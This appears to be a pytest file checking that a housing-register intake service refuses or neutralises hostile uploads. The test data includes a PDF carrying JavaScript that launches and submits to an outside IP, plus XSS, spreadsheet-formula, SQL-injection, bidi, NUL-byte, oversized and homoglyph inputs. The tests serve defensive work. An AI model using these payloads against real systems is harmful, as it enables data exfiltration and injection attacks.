"""Hostile files through intake: a PDF form carrying script, a 50 MB scan, malformed register
rows. Each is refused with an error naming the file, line or field, or read as plain data —
and a refusal writes nothing."""

from __future__ import annotations

import io

import pytest
from intake.builders import GRANT_FORM_VALUES, fill_form
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from support.rows import row_counts

from iok_desk.db.engine import Database
from iok_desk.domain import request_form
from iok_desk.domain.errors import ValidationError
from iok_desk.intake.csv_register import RegisterFileError, parse_register
from iok_desk.intake.pdf_form import read_request_form
from iok_desk.services import intake, register_import, requests
from iok_desk.services.context import Actor

from .corpus import short

SCRIPT = "app.launchURL('http://198.51.100.7/x', true); this.submitForm('http://198.51.100.7');"


def _with_script(pdf: bytes) -> bytes:
    """The filled form with JavaScript run on opening and on a field's focus."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.add_open_action(JavaScript(SCRIPT))
    for annotation in writer.pages[0].get("/Annots", []):
        field = annotation.get_object()
        field[NameObject("/AA")] = DictionaryObject({NameObject("/Fo"): DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(SCRIPT)})})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_form_with_script_is_read_as_plain_field_values() -> None:
    values = dict(GRANT_FORM_VALUES)
    values[request_form.FIELD_NOTE] = "<script>alert('x')</script>"
    scripted = _with_script(fill_form(values, ticked=["action_grant"]))
    assert b"/JavaScript" in scripted
    draft = read_request_form(scripted)
    assert (draft.kind, draft.last_name, draft.unit) == ("grant", "Żółkiewska", "Paprykowa 12/7")
    assert "launchURL" not in repr(draft)
    assert "<script>alert('x')</script>" in draft.note  # kept as text, never run


def test_script_in_a_name_field_is_a_problem_to_fix() -> None:
    values = dict(GRANT_FORM_VALUES)
    values[request_form.FIELD_LAST_NAME] = "<img src=x onerror=alert(1)>"
    problems = read_request_form(fill_form(values, ticked=["action_grant"])).check()
    assert any(problem.field == "last_name" for problem in problems)


def test_a_scripted_pdf_is_stored_as_an_inert_attachment(db: Database, admin: Actor,
                                                         register: dict[str, str]) -> None:
    number = requests.register_request(db, admin, requests.NewRequest(
        kind="grant", channel="e-mail", first_name="Anna", last_name="Żółkiewska",
        unit=register["flat7"])).number
    scripted = _with_script(fill_form(GRANT_FORM_VALUES, ticked=["action_grant"]))
    stored, skipped = intake.attach_files(db, admin, number, [("wniosek.pdf", scripted)])
    assert skipped == [] and [item.content_type for item in stored] == ["application/pdf"]
    assert intake.attachment_content(db, stored[0].id)[1] == scripted  # bytes as sent, not run


def test_a_50_megabyte_scan_is_refused_and_nothing_is_stored(db: Database, admin: Actor,
                                                            register: dict[str, str]) -> None:
    number = requests.register_request(db, admin, requests.NewRequest(
        kind="grant", channel="paper", first_name="Jan", last_name="Kowalski",
        unit=register["flat5"])).number
    huge = b"%PDF-1.4\n" + b"0" * (50 * 1024 * 1024)
    before = row_counts(db)
    with pytest.raises(ValidationError) as error:
        intake.attach_files(db, admin, number, [("skan.pdf", huge)])
    assert "skan.pdf" in error.value.message
    assert row_counts(db) == before


HEADER = ("zasob_klucz;zasob_nazwa;lokal_klucz;ulica;budynek;lokal_nr;kontrahent_klucz;imie;"
          "nazwisko;tytul_klucz;tytul_rodzaj;tytul_od;tytul_do")
GOOD = "MSM-01;Zasób;L-1;Paprykowa;12;5;K-1;Jan;Kowalski;T-1;własność;2020-01-15;"

BAD_ROWS = [
    ("MSM-01;Zasób;L-1;Paprykowa", "too few"),
    ("MSM-01;Zasób;L-1;Paprykowa;12;5;K-1;Jan;Kowalski;T-1;własność;2020-01-15;;x;y", "extra"),
    ("MSM-01;Zasób;;Paprykowa;12;5;K-1;Jan;Kowalski;T-1;własność;2020-01-15;", "no unit key"),
    ("MSM-01;Zasób;L-1;Paprykowa;XII;5;K-1;Jan;Kowalski;T-1;własność;2020-01-15;", "building"),
    ("MSM-01;Zasób;L-1;Paprykowa;12;5;K-1;Jan;Kowalski;T-1;własność;31.02.2020;", "date"),
    ("MSM-01;Zasób;L-1;Paprykowa;12;5;K-1;Jan;Kowalski;T-1;dzierżawa;2020-01-15;", "title"),
    ("MSM-01;Zasób;L-1;Paprykowa;12;5;K-1;=HYPERLINK(\"x\");Kowalski;T-1;własność;2020-01-15;",
     "formula"),
    ("MSM-01;Zasób;L-1;Papry\u202ekowa;12;5;K-1;Jan;Kowalski;T-1;własność;2020-01-15;", "bidi"),
    ("MSM-01;Zasób;L-1;Paprykowa;12;5;K-1;Jan;" + "K" * 10_000 + ";T-1;własność;2020-01-15;",
     "10,000 characters"),
    ("MSM-01;Zasób;L-1;Paprykowa;12;5;K-1;Jan;Kowalski;T-1;własność;2021-01-01;2020-01-01",
     "ends before it starts"),
    ("'; DROP TABLE unit; --;Zasób;L-1;Paprykowa;12;5;K-1;Jan;Kowalski;T-1;własność;2020-01-15;",
     "SQL"),
]


@pytest.mark.parametrize(("row", "what"), BAD_ROWS, ids=[what for _, what in BAD_ROWS])
def test_a_malformed_register_row_names_its_line(row: str, what: str) -> None:
    data = "\r\n".join([HEADER, GOOD.replace("L-1", "L-0").replace("K-1", "K-0")
                        .replace("T-1", "T-0").replace(";5;", ";4;"), row]).encode("utf-8")
    with pytest.raises(RegisterFileError) as error:
        parse_register(data)
    assert [problem.line for problem in error.value.problems] == [3]
    assert "wiersz 3" in error.value.message


def test_a_nul_byte_makes_the_file_unreadable_as_text() -> None:
    row = GOOD.replace("Kowalski", "Kowal\x00ski")
    with pytest.raises(RegisterFileError) as error:
        parse_register("\r\n".join([HEADER, row]).encode("utf-8"))
    assert "nie jest tekstem" in error.value.message


@pytest.mark.parametrize(("row", "what"), BAD_ROWS[:4], ids=[what for _, what in BAD_ROWS[:4]])
def test_a_register_with_a_bad_row_imports_nothing(db: Database, admin: Actor, row: str,
                                                   what: str) -> None:
    data = "\r\n".join([HEADER, GOOD.replace("L-1", "L-0").replace("K-1", "K-0")
                        .replace("T-1", "T-0").replace(";5;", ";4;"), row]).encode("cp1250")
    before = row_counts(db)
    with pytest.raises(RegisterFileError):
        register_import.import_register(db, admin, data)
    assert row_counts(db) == before


LOOKALIKE_ROWS = [
    (GOOD.replace(";12;5;", ";١٢;٥;"), "budynek"),
    (GOOD.replace(";5;", ";٥;"), "lokal_nr"),
    (GOOD.replace("Paprykowa", "Pаprykowa"), "ulica"),  # Cyrillic а
    (GOOD.replace("Paprykowa", "Ｐaprykowa"), "ulica"),
    (GOOD.replace("Jan", "Jаn"), "imie"),
    (GOOD.replace("Kowalski", "Кowalski"), "nazwisko"),
    (GOOD.replace("2020-01-15", "٢٠٢٠-٠١-١٥"), "tytul_od"),
]


@pytest.mark.parametrize(("row", "column"), LOOKALIKE_ROWS,
                         ids=[f"{column} {short(row)}" for row, column in LOOKALIKE_ROWS])
def test_a_look_alike_in_the_register_is_refused_with_its_column_and_nothing_is_written(
        db: Database, admin: Actor, row: str, column: str) -> None:
    data = "\r\n".join([HEADER, row]).encode("utf-8")
    before = row_counts(db)
    with pytest.raises(RegisterFileError) as error:
        register_import.import_register(db, admin, data)
    assert {problem.line for problem in error.value.problems} == {2}
    assert column in [problem.column for problem in error.value.problems]
    assert row_counts(db) == before
